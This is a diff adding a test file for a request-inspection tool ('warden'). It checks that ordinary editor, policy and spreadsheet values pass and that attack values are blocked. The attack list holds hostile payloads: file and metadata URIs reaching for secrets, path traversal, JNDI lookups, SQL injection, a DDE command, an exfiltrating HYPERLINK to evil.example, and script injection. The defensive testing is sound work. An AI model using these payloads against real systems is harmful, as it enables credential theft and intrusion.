@@ -1,0 +1,89 @@
+/**
+ * Blind benign set 8's consoles through the full pipeline (bundled rules + the shipped model, `warden eval`):
+ * a language server's document identifiers (path-mention.ts `isLspDocumentUri`), an editor's `${env:…}`
+ * variables (9000801 rev 4), an access policy's path globs (path-mention.ts `isMentionableGlob`) and a workbook's
+ * formulas (spreadsheet-formula.ts) pass, and
+ * attacks placed in the same fields — a file: URI of a secret or at a host, a traversal, a nested JNDI lookup,
+ * SQL hidden between glob comments, SQL, DDE, a fetching function or markup as a formula — are still blocked.
+ */
+import { mkdtempSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { main } from '../../src/cli/main.js';
+
+type Carrier = (value: string) => { method: string; path: string; query: string; headers: Record<string, string>; body?: string };
+
+const json = (path: string, body: (v: string) => unknown): Carrier => (v) => ({ method: 'POST', path, query: '', headers: { Host: 'code.example.dev', 'Content-Type': 'application/json' }, body: JSON.stringify(body(v)) });
+
+const CARRIERS: Record<string, Carrier> = {
+  'LSP didOpen': json('/lsp/typescript', (v) => ({ jsonrpc: '2.0', method: 'textDocument/didOpen', params: { textDocument: { uri: v, languageId: 'typescript', version: 1, text: 'export const x = 1;\n' } } })),
+  'LSP completion': json('/lsp/typescript', (v) => ({ jsonrpc: '2.0', id: 7, method: 'textDocument/completion', params: { textDocument: { uri: v }, position: { line: 4, character: 10 } } })),
+  'fetch API': json('/api/fetch', (v) => ({ uri: v })),
+  'editor settings': json('/vscode-remote-resource', (v) => ({ 'editor.formatOnSave': true, 'terminal.integrated.env.linux': { PATH: v } })),
+  'policy data': json('/v1/data/acme/http/allow', (v) => ({ admin_paths: [v, '/actuator/*'], trusted_cidrs: ['10.0.0.0/8'] })),
+  'page parameter': json('/api/render', (v) => ({ page: v })),
+  'workbook range': json("/v1.0/me/drive/items/01ABC/workbook/worksheets/Budget/range(address='B2:C2')", (v) => ({ formulas: [[v, '=ROUND(B2*2,2)']] })),
+};
+
+const BENIGN: [string, string][] = [
+  ['LSP didOpen', 'file:///workspace/src/exec.ts'],
+  ['LSP completion', 'file:///workspace/src/server.ts'],
+  ['LSP completion', 'file:///c%3A/Users/ann/My%20Project/src/app.ts'],
+  ['editor settings', '${env:HOME}/.local/bin:${env:PATH}'],
+  ['policy data', '/admin/*'],
+  ['policy data', '/debug/pprof/*'],
+  ['workbook range', '=LET(x,FILTER(Tx[Amount],Tx[Cat]="Travel"),SUM(x)/COUNT(x))'],
+  ['workbook range', '=SUMIFS(Orders!E:E,Orders!C:C,"EU",Orders!B:B,">="&DATE(2026,11,1))'],
+];
+
+const ATTACKS: [string, string][] = [
+  ['LSP didOpen', 'file:///etc/passwd'],
+  ['LSP completion', 'file:///proc/self/environ'],
+  ['LSP completion', 'file://169.254.169.254/latest/meta-data/'],
+  ['LSP didOpen', 'file:///workspace/../../../etc/shadow'],
+  ['LSP didOpen', 'file:///%2e%2e/%2e%2e/etc/hosts'],
+  ['LSP completion', 'file:///c%3A/windows/win.ini'],
+  ['LSP completion', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
+  ['fetch API', 'file:///workspace/src/server.ts'],
+  ['fetch API', 'file:///etc/hosts'],
+  ['editor settings', '${${env:NaN:-j}ndi:ldap://x.example/a}'],
+  ['editor settings', '${jndi:ldap://x.example/${env:USER}}'],
+  ['editor settings', '${${::-j}${::-n}${::-d}${::-i}:ldap://x.example/a}'],
+  ['policy data', '/*/union/*/select/*/'],
+  ['policy data', '/etc/passwd*'],
+  ['policy data', "/admin/*' or '1'='1"],
+  ['page parameter', '/admin/*'],
+  ['workbook range', '=IF(1=1,SLEEP(5),0)--'],
+  ['workbook range', '=IF(COUNT(*)!=-8,(SLEEP(3)),0)'],
+  ['workbook range', "=cmd|' /C calc'!A0"],
+  ['workbook range', '=HYPERLINK("http://evil.example/?"&A1,"x")'],
+  ['workbook range', '=SUM(1) OR 1=1'],
+  ['workbook range', "=\"x' OR '1'='1\""],
+  ['workbook range', '="<script>alert(1)</script>"'],
+  ['workbook range', "' UNION SELECT password FROM users--"],
+];
+
+async function verdicts(rows: [string, string][], label: 'benign' | 'attack'): Promise<Map<string, string>> {
+  const dir = mkdtempSync(join(tmpdir(), 'warden-consoles-'));
+  const file = join(dir, 'corpus.ndjson');
+  const records = rows.map(([carrier, value], i) => ({ id: `${label}-${i}: ${carrier}: ${value}`, source: 'unit', label, category: carrier, ...CARRIERS[carrier](value) }));
+  writeFileSync(file, `${records.map((r) => JSON.stringify(r)).join('\n')}\n`);
+  const config = join(dir, 'warden.yaml');
+  writeFileSync(config, 'inspection: { cpuBudgetMs: 60000 }\n');
+  const out: string[] = [];
+  expect(await main(['eval', '--corpus', file, '--config', config, '--per-request'], { out: (s) => out.push(s), err: () => {} })).toBe(0);
+  return new Map(out.map((l) => JSON.parse(l) as { id: string; verdict: string }).map((v) => [v.id, v.verdict]));
+}
+
+describe("blind benign set 8's console carriers through the full pipeline", () => {
+  it('lets document identifiers, editor variables, policy globs and formulas pass', async () => {
+    const v = await verdicts(BENIGN, 'benign');
+    expect([...v].filter(([, verdict]) => verdict !== 'allow').map(([id]) => id)).toEqual([]);
+  }, 60_000);
+
+  it('still blocks attacks placed in the same fields', async () => {
+    const v = await verdicts(ATTACKS, 'attack');
+    expect([...v].filter(([, verdict]) => verdict !== 'block').map(([id]) => id)).toEqual([]);
+  }, 60_000);
+});
